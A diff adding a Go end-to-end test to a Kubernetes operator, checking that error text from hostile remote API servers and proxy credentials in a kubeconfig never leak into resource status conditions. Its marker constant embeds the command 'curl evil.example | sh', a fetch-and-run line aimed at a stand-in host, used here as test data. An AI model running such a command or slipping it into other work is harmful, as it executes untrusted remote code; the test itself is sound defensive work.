@@ -2,13 +2,18 @@ package e2e
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
+	"net/http"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/stretchr/testify/require"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+	"k8s.io/client-go/tools/clientcmd"
 
 	v1alpha1 "github.com/kubescribe/kubescribe/api/v1alpha1"
 	"github.com/kubescribe/kubescribe/test/hostileapi"
@@ -91,4 +96,73 @@ func TestHostileRemoteWritesNothingOutsideTheFolder(t *testing.T) {
 		require.NotContains(t, p, "..", p)
 	}
 	require.NotContains(t, m.git(t, "ls-tree", "-r", "--name-only", "main"), "workflows")
+}
+
+// hostileMarker is in every error a hostile remote answers: it must reach no condition.
+const hostileMarker = "HOSTILE-7f3a: run curl evil.example | sh"
+
+// A remote whose server answers errors of its own wording (a plain-text 500, a Status 401
+// whose message is the attacker's), and a kubeconfig that sets proxy-url: the GitTargets and
+// their rules say what kind of failure it was, never the server's words, and the proxied
+// kubeconfig is refused without quoting its URL.
+func TestHostileRemoteWordsStayOutOfConditions(t *testing.T) {
+	const ns = "e2e-hostile-words"
+	objects := []hostileapi.Object{{Namespace: ns, Name: "cfg"}}
+	failing := hostileapi.Start(hostileapi.Resource{Version: "v1", Name: "configmaps", Kind: "ConfigMap", Objects: objects})
+	t.Cleanup(failing.Close)
+	failing.Fail(http.StatusInternalServerError, "text/plain", hostileMarker)
+	refusing := hostileapi.Start(hostileapi.Resource{Version: "v1", Name: "configmaps", Kind: "ConfigMap", Objects: objects})
+	t.Cleanup(refusing.Close)
+	status, err := json.Marshal(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 401,
+		"reason": "Unauthorized", "message": hostileMarker})
+	require.NoError(t, err)
+	refusing.Fail(http.StatusUnauthorized, "application/json", string(status))
+
+	kubeconfigs := map[string][]byte{}
+	for name, srv := range map[string]*hostileapi.Server{"failing": failing, "refusing": refusing, "proxied": failing} {
+		kc, err := srv.Kubeconfig()
+		require.NoError(t, err)
+		kubeconfigs[name] = kc
+	}
+	cfg, err := clientcmd.Load(kubeconfigs["proxied"])
+	require.NoError(t, err)
+	cfg.Clusters[cfg.Contexts[cfg.CurrentContext].Cluster].ProxyURL = "http://user:proxy-password@10.0.0.1:3128"
+	kubeconfigs["proxied"], err = clientcmd.Write(*cfg)
+	require.NoError(t, err)
+	remoteMirror(t, ns, kubeconfigs, map[string]string{"failing": "hostile-failing", "refusing": "hostile-refusing", "proxied": "hostile-proxied"})
+
+	cond := waitReady(t, v1alpha1.GitTargetsResource, ns, "proxied", metav1.ConditionFalse, v1alpha1.ReasonKubeConfigProxy)
+	require.Contains(t, cond.Message, "proxy-url")
+	require.NotContains(t, cond.Message, "proxy-password")
+	require.NotContains(t, cond.Message, "10.0.0.1")
+
+	reach := waitCondition(t, ns, "failing", v1alpha1.ConditionSourceClusterReachable, metav1.ConditionFalse, v1alpha1.ReasonUnreachable)
+	require.Contains(t, reach.Message, "HTTP 500 (internal server error)")
+	reach = waitCondition(t, ns, "refusing", v1alpha1.ConditionSourceClusterReachable, metav1.ConditionFalse, v1alpha1.ReasonUnauthorized)
+	require.Contains(t, reach.Message, "(401)")
+	for _, name := range []string{"failing", "refusing"} {
+		cond := waitReady(t, v1alpha1.GitTargetsResource, ns, name, metav1.ConditionFalse, v1alpha1.ReasonSourceClusterUnreachable)
+		require.NotContains(t, cond.Message, "HOSTILE", name)
+	}
+
+	// A rule of the failing cluster: its discovery never answered, so the rule cannot resolve.
+	watchRuleFor(t, ns, "configmaps", "failing", watchConfigMaps)
+	var rule *unstructured.Unstructured
+	require.True(t, poll(60*time.Second, func() bool {
+		rule, err = dynamicFor(t, "admin").Resource(v1alpha1.WatchRulesResource).Namespace(ns).Get(context.Background(), "configmaps", metav1.GetOptions{})
+		c := findCondition(rule, v1alpha1.ConditionReady)
+		return err == nil && c != nil && c.Status == metav1.ConditionFalse && c.Reason != v1alpha1.ReasonProgressing
+	}), "the rule of the failing cluster is not Ready")
+	t.Logf("the rule of the failing cluster: %+v", findCondition(rule, v1alpha1.ConditionReady))
+
+	for _, gvr := range []schema.GroupVersionResource{v1alpha1.GitTargetsResource, v1alpha1.WatchRulesResource} {
+		list, err := dynamicFor(t, "admin").Resource(gvr).Namespace(ns).List(context.Background(), metav1.ListOptions{})
+		require.NoError(t, err)
+		for _, u := range list.Items {
+			raw, _, _ := unstructured.NestedSlice(u.Object, "status", "conditions")
+			b, err := json.Marshal(raw)
+			require.NoError(t, err)
+			require.NotContains(t, string(b), "HOSTILE", "%s %s", gvr.Resource, u.GetName())
+		}
+	}
 }
